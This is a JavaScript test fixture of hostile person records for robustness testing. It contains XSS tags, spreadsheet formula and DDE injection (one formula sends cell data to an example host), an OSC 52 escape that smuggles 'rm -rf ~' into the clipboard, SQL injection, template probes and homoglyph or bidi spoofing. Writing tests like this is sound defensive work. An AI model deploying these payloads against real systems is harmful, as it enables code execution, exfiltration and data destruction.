// Fault `hostile` (P10, U7): names, headlines and notes that attack whatever
// prints, stores or opens them. [name, slug, headline, note]

const MEGABYTE = 1024 * 1024;

export const hostilePeople = () => [
  ['<script>window.rescindPwned=1</script>', 'script-tag', '<img src=x onerror="window.rescindPwned=1">', '</span><b>bold</b>'],
  ['=HYPERLINK("http://example.org/?"&A1,"Sale")', 'formula', '@SUM(1+1)*cmd|" /C calc"!A0', '+1-555-0100'],
  ['\u001b]52;c;cm0gLXJmIH4=\u0007Osc Example', 'osc-52', '\u001b[2J\u001b[31mred\u001b[0m', 'bell\u0007 and\rreturn'],
  ['\u202egro.elpmaxe\u202c Bidi', 'bidi', 'abc \u2066isolated\u2069 \u200f', null],
  ['Zero\u200bWidth\u200dPerson\ufeff', 'zero-width', 'Soft\u00adhyphen', null],
  ['"Quote" \'Single\' `Tick`', 'quotes', '","--; DROP TABLE people; --', "it's \"quoted\""],
  ['N'.repeat(200), 'long-name', 'x', null],
  ['Big Headline', 'big-headline', 'h'.repeat(MEGABYTE), null],
  ['Аdа Ехаmple', 'ada-lookalike', 'Cyrillic letters that look Latin', null],
  ['Ada Example', 'ada-latin', 'Latin letters', null],
  ['E\u0301lodie Combining', 'combining', 'Z\u0300\u0301\u0302\u0303\u0304a\u0305lgo', null],
  ['{{7*7}} ${7*7} <%= 7*7 %>', 'template', '-2+3+cmd', '\u2028line\u2029paragraph'],
  ['👩‍👩‍👧‍👦 Family', 'zwj-family', '🏴‍☠️ pirate', null],
  ['\uff1dFULLWIDTH', 'full-width', '\uff0b1', '\t=1+1'],
];

/** Fault `quotes` (U8): labels that break selectors, or hold another person's name. */
export const quotedPeople = () => [
  ['O\'Brien "Ob" ]', 'obrien', 'Quotes', null],
  ['Withdraw invitation sent to Mara Lindqvist', 'label-in-name', 'Sent 2 years ago', null],
  ['Mara Lindqvist"] , [aria-label="x', 'selector-break', 'Selector', null],
  ['Mara Lindqvist Jr.', 'mara-jr', 'Her name is a prefix of mine', null],
];
